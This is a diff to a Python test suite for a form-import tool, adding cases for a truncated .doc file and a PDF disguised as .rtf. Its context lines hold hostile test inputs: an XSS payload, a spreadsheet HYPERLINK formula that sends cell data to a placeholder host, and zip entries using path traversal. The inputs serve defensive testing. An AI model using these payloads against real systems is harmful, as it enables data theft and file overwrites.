@@ -40,6 +40,7 @@ FORM = form_text(make_record())
 WORKBOOK = render(make_record(), "xlsx")
 DOCUMENT = render(make_record(), "docx")
 PDF = render(make_record(), "pdf")
+DOC = (Path(__file__).parent / "fixtures" / "converted" / "f0.doc").read_bytes()
 ACCENTED = make_record(dentist_name="Clínica São João", city="João Monlevade", analyst="Conceição Araújo")
 HOSTILE_NOTE = '<img src=x onerror=alert(1)> =HYPERLINK("http://exemplo.invalid/?d="&A1,"clique")'
 
@@ -138,6 +139,9 @@ CASES = [
         lambda: _zip({"../../etc/passwd.txt": form_text(make_record(protocol_number="ZIP-1")).encode(),
                       "/abs/form.txt": form_text(make_record(protocol_number="ZIP-2")).encode()}),
         forms=2),
+    # With LibreOffice: it cannot open them; without: it is not installed. Both say "LibreOffice".
+    Bad("doc_cortado", "cortado.doc", lambda: DOC[: len(DOC) // 3], refused="LibreOffice"),
+    Bad("rtf_que_e_pdf", "disfarcado.rtf", lambda: PDF, refused="LibreOffice"),
     Bad("eml_sem_formulario", "sem_anexo.eml", lambda: _eml({"foto.exe": b"MZ"}), refused="não tem formulário anexado"),
     Bad("eml_texto_qualquer", "falso.eml", lambda: "Lista de compras: arroz".encode(), refused="não tem cabeçalhos de e-mail"),
     Bad("eml_dois_formularios", "formularios.eml",
